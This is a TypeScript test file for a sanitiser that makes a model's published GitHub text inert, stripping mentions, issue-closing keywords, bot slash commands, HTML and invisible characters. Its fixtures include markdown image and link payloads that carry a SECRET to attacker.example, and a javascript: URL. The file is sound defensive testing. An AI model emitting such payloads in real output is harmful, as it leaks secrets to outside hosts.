import { describe, expect, test } from "vitest";
import { BODY_LIMIT, cutMarkdown, inertLine, inertText } from "../../src/github/inert-text.ts";

const inert = (text: string): string => inertText(text, { allowedHosts: ["docs.example"] });

describe("published text of a model", () => {
  test.each(["@org/everyone please look", "thanks @wanda", "(@wanda)", "*@wanda*"])("%j notifies nobody", (text) => {
    expect(inert(text)).not.toMatch(/@[A-Za-z0-9]/);
  });

  test.each([
    "Fixes #1, closes #2, resolves attacker/repo#3",
    "fixed: #9",
    "Closes GH-4",
    "Fixes https://github.com/acme/lib/issues/4",
  ])("%j closes and links nothing", (text) => {
    expect(inert(text)).not.toMatch(/(?:clos|fix|resolv)\w*:?\s+(?:[\w./-]*#\d|GH-\d|https:)/i);
    expect(inert(text)).not.toMatch(/#\d/);
  });

  test.each(["/approve", "ok\n/merge now", "  /deploy"])("%j commands no bot", (text) => {
    expect(inert(text)).not.toMatch(/^\s*\/[a-z]/m);
  });

  test.each([
    "![x](https://attacker.example/i.png?d=SECRET)",
    "[details](https://attacker.example/?q=SECRET)",
    "https:\\/\\/attacker.example/SECRET",
    "hxxps://attacker.example/SECRET",
    "//attacker.example/SECRET",
    "see https://attacker.example/SECRET now",
    "www.attacker.example/SECRET",
    "![logo][x]\n\n[x]: https://attacker.example/SECRET",
    "<img src=https://attacker.example/SECRET>",
    "<https://attacker.example/SECRET>",
    "[a](https://user:pw@github.com.attacker.example/SECRET)",
    "[a](javascript:alert(SECRET))",
    "[a](//attacker.example/SECRET)",
    "[a]( <https://attacker.example/SECRET> )",
  ])("%j reaches no other host and carries nothing there", (text) => {
    const out = inert(text);
    expect(out).not.toMatch(/attacker\.example/);
    expect(out).not.toMatch(/\]\((?:https?:|\/\/|javascript)/);
    expect(out).not.toContain("<img");
  });

  test.each([
    "[docs](https://docs.example/a)",
    "https://github.com/acme/lib",
    "[here](./README.md)",
    "[top](#evidence)",
  ])("%j stays a link", (text) => {
    expect(inert(text)).toBe(text);
  });

  test("HTML, comments and imitated markers are shown as text", () => {
    const out = inert("<!-- pawl:run:1 abc def --> <details open> <b>x</b>");
    expect(out).not.toContain("<");
  });

  test("an open fence can't swallow what is written below it", () => {
    for (const opening of ["```", "````js", "~~~"]) {
      const out = `${inert(`text\n${opening}\ncode`)}\n\nFOOTER`;
      expect(out.split("\n").filter((line) => /^(`{3,}|~{3,})/.test(line))).toHaveLength(2);
    }
  });

  test("code is left as it is", () => {
    const text = "Run `npm i @scope/x` and\n\n```sh\ncurl https://a.example # Fixes #1 @me\n```";
    expect(inert(text)).toBe(text);
  });

  test("invisible and bidirectional characters are gone", () => {
    expect(inert("a\u202eb\u2066c\u{e0041}d\u200be\u3164f")).toBe("abcdef");
  });

  test("making it inert twice changes nothing more", () => {
    const text = "@a Fixes #1 ![x](https://b.example) <i> /x\n/merge `@c`\n```\nopen";
    expect(inert(inert(text))).toBe(inert(text));
  });

  test("a long body is cut at GitHub's limit with a note and closed fences", () => {
    const out = cutMarkdown(`\`\`\`\n${"line of text\n".repeat(7_000)}`, BODY_LIMIT, "_Cut._");
    expect(out.length).toBeLessThanOrEqual(BODY_LIMIT);
    expect(out).toMatch(/\n```\n\n_Cut\._$/);
  });

  test("a title is one line", () => {
    expect(inertLine("Fix\n\nthings @wanda\u0000 #4")).toBe("Fix things @\u2060wanda #\u20604");
  });

  test("hostile text is read in linear time", () => {
    for (const text of [
      "[".repeat(50_000),
      "`".repeat(50_001),
      "![](".repeat(20_000),
      "<!--".repeat(20_000),
      "a@".repeat(30_000),
      "//".repeat(40_000),
    ]) {
      expect(inert(text).length).toBeGreaterThan(0);
    }
  });
});
